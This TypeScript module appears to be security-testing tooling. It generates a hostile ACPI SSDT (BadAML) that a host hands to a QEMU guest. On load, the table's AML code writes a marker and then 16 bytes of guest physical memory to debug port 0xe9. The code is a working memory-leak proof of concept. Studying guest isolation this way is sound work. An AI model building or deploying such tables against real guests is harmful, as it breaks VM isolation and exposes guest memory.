// An ACPI table with code in it, as a hostile host would hand to a guest (known as BadAML). Pure; AML by ACPI 6.5,
// chapter 20.
//
// The code runs when the table is loaded. It says `amlRan` on a debug port, then 16 bytes of the guest's memory.

export const amlRan = 'AML ran: '
/** Where QEMU's isa-debugcon listens. */
export const debugPort = 0xe9
/** An address in the guest's physical memory; no device has it. */
const peekAddress = 0x100_0000
const peekCount = 16

/** A secondary system description table for `-acpitable file=`. */
export function hostileTable(): Uint8Array {
  const names = Array.from({ length: peekCount }, (_, index) => ascii(`M${String(index).padStart(3, '0')}`))
  const body = [
    ...region('EVIL', space.systemIo, debugPort, 1),
    ...field('EVIL', [ascii('PORT')]),
    ...[...ascii(amlRan)].flatMap(byte => storeToPort([op.byte, byte])),
    ...region('MEMR', space.systemMemory, peekAddress, peekCount),
    ...field('MEMR', names),
    ...names.flatMap(storeToPort),
  ]
  return withHeader(body)
}

const space = { systemMemory: 0, systemIo: 1 } as const
const op = { byte: 0x0a, dword: 0x0c, store: 0x70, extended: 0x5b, region: 0x80, field: 0x81 } as const
const fieldOfBytes = 0x01
const bitsPerByte = 8

const ascii = (text: string): number[] => [...Buffer.from(text, 'latin1')]
const dword = (value: number): number[] => [0, 8, 16, 24].map(shift => (value >>> shift) & 0xff)

function storeToPort(source: readonly number[]): number[] {
  return [op.store, ...source, ...ascii('PORT')]
}

function region(name: string, kind: number, offset: number, length: number): number[] {
  return [op.extended, op.region, ...ascii(name), kind, op.dword, ...dword(offset), op.dword, ...dword(length)]
}

function field(name: string, units: readonly (readonly number[])[]): number[] {
  const content = [...ascii(name), fieldOfBytes, ...units.flatMap(unit => [...unit, bitsPerByte])]
  // PkgLength of two bytes counts itself (20.2.4).
  const length = content.length + 2
  return [op.extended, op.field, 0x40 | (length & 0xf), length >> 4, ...content]
}

/** DESCRIPTION_HEADER, section 5.2.6. */
function withHeader(body: readonly number[]): Uint8Array {
  const ids = [...ascii('EVIL  '), ...ascii('EVILSSDT'), ...dword(1), ...ascii('EVIL'), ...dword(1)]
  const table = [...ascii('SSDT'), ...dword(36 + body.length), 2, 0, ...ids, ...body]
  const sum = table.reduce((total, byte) => total + byte, 0)
  table[9] = -sum & 0xff
  return Uint8Array.from(table)
}
